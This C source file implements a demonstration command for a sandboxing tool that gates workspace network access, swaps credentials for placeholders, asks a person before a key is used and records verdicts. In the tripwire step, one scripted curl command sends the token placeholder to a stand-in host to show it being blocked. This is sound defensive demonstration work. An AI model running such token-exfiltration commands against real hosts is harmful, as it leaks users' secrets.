/* brome demo: the whole story on this machine alone. It runs the very commands that it prints, with a configuration, a state and a supervisor
 * of its own in a temporary folder, against a server of its own on 127.0.0.1. Nothing of the user's set-up is read or changed.
 *
 * Where a person has to answer, it is the person: it watches as a terminal would, and gives the answer with the command that anybody would give it with. The key
 * is made for this one run and is good for nothing. */
#include "base/clock.h"
#include "base/fd.h"
#include "cli/demo_origin.h"
#include "cli/session.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/random.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { KEY_CHARS = 36, NOTICE_MS = 30 * 1000, ARGUMENTS_MAX = 23 };

static const char *const demo_names[] = { "forge.example", "mailbox.example", NULL };

struct demo {
        char folder[64], key[4 + KEY_CHARS + 2];
        struct demo_origin origin;
        struct control watch; /* a person's place: without somebody to ask, nobody would be asked */
        pid_t held;           /* a command that waits; 0: none */
        bool colour;
        unsigned step;
};

static volatile sig_atomic_t interrupted;
static void on_signal(int number) { interrupted = number; }

static int write_text(const struct demo *d, const char *name, const char *text, struct err *err)
{
        char path[128];

        snprintf(path, sizeof(path), "%s/%s", d->folder, name);
        return fd_write_file(path, 0600, text, strlen(text), err);
}

/* A key of the shape that a forge hands out. */
static int make_key(struct demo *d, struct err *err)
{
        static const char chars[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        unsigned char random[KEY_CHARS];
        size_t n = 4;

        if (getrandom(random, sizeof(random), 0) != sizeof(random))
                return err_sys(err, errno, "no random numbers");
        memcpy(d->key, "ghp_", n);
        for (size_t i = 0; i < KEY_CHARS; i++)
                d->key[n++] = chars[random[i] % (sizeof(chars) - 1)];
        d->key[n++] = '\n';
        d->key[n] = 0;
        return write_text(d, "forge.key", d->key, err);
}

static int write_files(struct demo *d, struct err *err)
{
        char text[1024];

        snprintf(text, sizeof(text),
                 "# Stand-ins: both names lead to a server on this machine, with a certificate of its own.\n"
                 "host forge.example   { address 127.0.0.1 port %u; ca file \"ca.pem\" }\n"
                 "host mailbox.example { address 127.0.0.1 port %u; ca file \"ca.pem\" }\n\n"
                 "credential forge {\n        kind github\n        secret file \"forge.key\"\n        for forge.example\n        ask before use\n}\n"
                 "workspace demo {\n        credential forge\n        rules {\n                allow web forge.example read-only\n                default deny\n        }\n}\n",
                 d->origin.port, d->origin.port);
        if (write_text(d, "brome.conf", text, err) < 0)
                return -1;
        return write_text(d, "new.rules", "allow web forge.example read-only\nallow web mailbox.example read-only\ndefault deny\n", err);
}

static int prepare(struct demo *d, struct err *err)
{
        static const char *const vars[][2] = { { "BROME_CONFIG", "brome.conf" }, { "BROME_STATE", "state" }, { "BROME_RUNTIME", "run" } };
        char path[128];

        snprintf(d->folder, sizeof(d->folder), "/tmp/brome-demo-XXXXXX");
        if (!mkdtemp(d->folder)) {
                d->folder[0] = 0;
                return err_sys(err, errno, "cannot make a folder in /tmp");
        }
        snprintf(path, sizeof(path), "%s/ca.pem", d->folder);
        if (demo_origin_start(&d->origin, path, demo_names, err) < 0 || make_key(d, err) < 0 || write_files(d, err) < 0)
                return -1;
        for (size_t i = 0; i < sizeof(vars) / sizeof(vars[0]); i++) {
                snprintf(path, sizeof(path), "%s/%s", d->folder, vars[i][1]);
                if (setenv(vars[i][0], path, 1) < 0)
                        return err_sys(err, errno, "setenv");
        }
        return chdir(d->folder) < 0 ? err_sys(err, errno, "%s", d->folder) : 0;
}

static void say(struct demo *d, const char *text)
{
        printf("\n%s%u. %s%s\n", d->colour ? "\033[1m" : "", ++d->step, text, d->colour ? "\033[0m" : "");
        fflush(stdout);
}

/* Prints `brome ARGUMENTS` and starts it. `later`: it will wait for somebody, and has no terminal to ask on; its own lines go to a file of the folder. -1: no. */
static pid_t start(struct demo *d, const char *const *arguments, bool later)
{
        const char *argv[ARGUMENTS_MAX + 1] = { "brome" };
        size_t n = 1;
        pid_t pid;

        printf("%s   $ brome", d->colour ? "\033[2m" : "");
        for (; arguments[n - 1] && n < ARGUMENTS_MAX; n++) {
                argv[n] = arguments[n - 1];
                printf(strpbrk(argv[n], " ;|&") ? " '%s'" : " %s", argv[n]);
        }
        printf("%s%s\n", later ? " &" : "", d->colour ? "\033[0m" : "");
        fflush(stdout);
        pid = fork();
        if (pid == 0) {
                if (later && (dup2(open("/dev/null", O_RDONLY), STDIN_FILENO) < 0 || dup2(open("held.log", O_WRONLY | O_CREAT | O_APPEND, 0600), STDERR_FILENO) < 0))
                        _exit(127);
                execv("/proc/self/exe", (char *const *)argv);
                _exit(127);
        }
        return pid;
}

static int status_of(pid_t pid)
{
        int status;

        while (pid > 0 && waitpid(pid, &status, 0) < 0)
                if (errno != EINTR)
                        return -1;
        return pid > 0 && WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

/* Runs it; its exit status. */
static int brome(struct demo *d, const char *const *arguments) { return interrupted ? -1 : status_of(start(d, arguments, false)); }
#define BROME(d, ...) brome(d, (const char *const[]){ __VA_ARGS__, NULL })
/* Starts it; d->held is it. */
#define BROME_LATER(d, ...) ((d)->held = start(d, (const char *const[]){ __VA_ARGS__, NULL }, true))

static int held_status(struct demo *d)
{
        pid_t pid = d->held;

        d->held = 0;
        return status_of(pid);
}

/* ---- somebody to ask ---- */

static int begin_to_watch(struct demo *d)
{
        struct paths paths;
        struct chan_msg answer;
        struct err err = ERR_INIT;
        int rc;

        if (paths_find(&paths, NULL, &err) < 0 || control_connect(&d->watch, &(struct control_options){ .paths = &paths }, &err) != 0 ||
            chan_send(d->watch.fd, json_pack("{s:s, s:I, s:s}", "op", "watch", "id", (json_int_t)++d->watch.last_id, "workspace", "demo"), NULL, 0) < 0) {
                cli_note("nobody can watch: %s", err.text);
                return -1;
        }
        rc = control_ask(&d->watch, "status", NULL, &answer, &err); /* answered behind the watch: it is in force */
        chan_msg_fini(&answer);
        return rc;
}

/* Waits for a notice: an approval (its number), or the state `compromised` (0). -1: it did not come. */
static long long notice(struct demo *d, const char *kind)
{
        int64_t deadline = clock_mono_ms() + NOTICE_MS;
        long long found = -1;

        while (found < 0 && !interrupted) {
                int64_t left = deadline - clock_mono_ms();
                struct chan_msg msg;
                int rc = left > 0 ? chan_wait(d->watch.fd, (int)left, &msg, &(struct err)ERR_INIT) : -1;

                if (rc < 0)
                        return -1;
                if (rc == 0)
                        continue;
                /* Of the states, that one; an approval has none. */
                if (strcmp(chan_str(&msg, "kind", ""), kind) == 0 && strcmp(chan_str(&msg, "state", "compromised"), "compromised") == 0)
                        found = json_integer_value(json_object_get(json_object_get(msg.body, "approval"), "id"));
                chan_msg_fini(&msg);
        }
        return found;
}

/* ---- the story: each step with what must come of it; false when it went otherwise ---- */

static bool tell_gate(struct demo *d)
{
        say(d, "A workspace starts. Its rules allow one host, for reading.");
        if (BROME(d, "workspace", "start", "demo") != 0 || BROME(d, "rules", "show", "demo") != 0)
                return false;
        say(d, "Inside, no proxy is set and there is nothing to log in with. Reading from the allowed host works.");
        if (BROME(d, "exec", "demo", "--", "curl", "-sS", "--fail", "https://forge.example/readme") != 0)
                return false;
        say(d, "A write to the same host is refused at the gate, and the refusal says which rule would allow it.");
        if (BROME(d, "exec", "demo", "--", "curl", "-sS", "--fail-with-body", "-d", "note=hello", "https://forge.example/notes") != 22)
                return false;
        say(d, "Another host does not even have an address.");
        if (BROME(d, "exec", "demo", "--", "curl", "-sS", "https://mailbox.example/") != 6)
                return false;
        say(d, "The rules are edited while the workspace runs; the next request goes through.");
        return BROME(d, "rules", "set", "demo", "new.rules") == 0 && BROME(d, "exec", "demo", "--", "curl", "-sS", "--fail", "https://mailbox.example/") == 0;
}

static bool tell_account(struct demo *d)
{
        char number[24], text[160];
        long long id;

        snprintf(text, sizeof(text), "The host has a key for the forge, %.8s…, made for this demonstration. The workspace has a placeholder.", d->key);
        say(d, text);
        if (BROME(d, "exec", "demo", "--", "printenv", "GITHUB_TOKEN") != 0 || BROME(d, "accounts", "demo") != 0)
                return false;
        say(d, "Its first use waits for a person's yes. Then the key goes to the forge; what the forge echoes comes back as the placeholder.");
        if (begin_to_watch(d) < 0 ||
            BROME_LATER(d, "exec", "demo", "--", "sh", "-c", "curl -sS --fail -H \"Authorization: Bearer $GITHUB_TOKEN\" https://forge.example/user") < 0)
                return false;
        id = notice(d, "approval");
        snprintf(number, sizeof(number), "%lld", id);
        return id > 0 && BROME(d, "approvals") == 0 && BROME(d, "approvals", "allow", number, "--for", "session") == 0 && held_status(d) == 0;
}

static bool tell_tripwire(struct demo *d)
{
        unsigned before = atomic_load(d->origin.requests);

        say(d, "The placeholder on its way to another host, though that host is allowed: refused, and the whole workspace stands still until a person decides.");
        if (BROME_LATER(d, "exec", "demo", "--", "sh", "-c", "curl -sS -H \"X-Note: $GITHUB_TOKEN\" https://mailbox.example/") < 0 || notice(d, "state") < 0 ||
            BROME(d, "alerts", "demo") != 0)
                return false;
        if (atomic_load(d->origin.requests) != before)
                return false;
        printf("   The stand-in heard nothing of it: %u requests before, %u now.\n", before, atomic_load(d->origin.requests));
        say(d, "Here the decision is to wipe it: home, layers and placeholders go, the configuration stays.");
        if (BROME(d, "workspace", "wipe", "demo", "--yes") != 0)
                return false;
        (void)held_status(d);
        return true;
}

static bool tell_record(struct demo *d)
{
        say(d, "Every verdict is in the Security Timeline, and the journal's chain proves that no line is missing.");
        return BROME(d, "timeline", "demo") == 0 && BROME(d, "trace", "verify") == 0;
}

static void remove_folder(const char *folder)
{
        pid_t pid = fork();

        if (pid == 0) {
                execlp("rm", "rm", "-rf", "--", folder, (char *)NULL);
                _exit(127);
        }
        if (pid > 0)
                waitpid(pid, NULL, 0);
}

/* Whatever happened: nothing of ours goes on running. */
static void end(struct demo *d, bool remove)
{
        interrupted = 0;
        control_close(&d->watch);
        if (d->held > 0)
                kill(d->held, SIGTERM);
        if (d->step && BROME(d, "daemon", "stop") != 0)
                cli_note("the demonstration's supervisor did not stop by itself");
        if (d->held > 0)
                (void)held_status(d);
        demo_origin_stop(&d->origin);
        if (chdir("/") == 0 && remove && d->folder[0])
                remove_folder(d->folder);
}

int cmd_demo(struct cli *cli, int argc, char **argv)
{
        struct sigaction note = { .sa_handler = on_signal };
        bool keep = false, told;
        const struct cli_option options[] = { { .name = "keep", .flag = &keep } };
        struct demo d = { .colour = cli_colour(), .watch = { .fd = -1 } };
        struct err err = ERR_INIT;
        int at = cli_options(cli, argc, argv, options, 1), number;
        const char *self = getenv("BROME_TOP") ? "./brome" : "brome";

        if (at < 0)
                return at == -2 ? EXIT_OK : EXIT_USAGE_;
        sigaction(SIGINT, &note, NULL);
        sigaction(SIGTERM, &note, NULL);
        if (prepare(&d, &err) < 0) {
                end(&d, !keep);
                return cli_fail(EXIT_HOST, "%s", err.text);
        }
        printf("brome demo: everything happens on this machine, in %s.\n", d.folder);
        told = tell_gate(&d) && tell_account(&d) && tell_tripwire(&d) && tell_record(&d);
        number = interrupted;
        end(&d, !keep && (told || number));
        if (number)
                return cli_fail(128 + number, "interrupted; nothing of the demonstration is left");
        if (!told)
                return cli_fail(EXIT_NO, "step %u did not go as told. %s doctor says what this machine lacks; the log is %s/run/bromed.log", d.step, self, d.folder);
        printf("\nNow your own command:\n\n   %s run --allow 'web example.org read-only' -- curl -sS https://example.org/\n\n", self);
        return EXIT_OK;
}
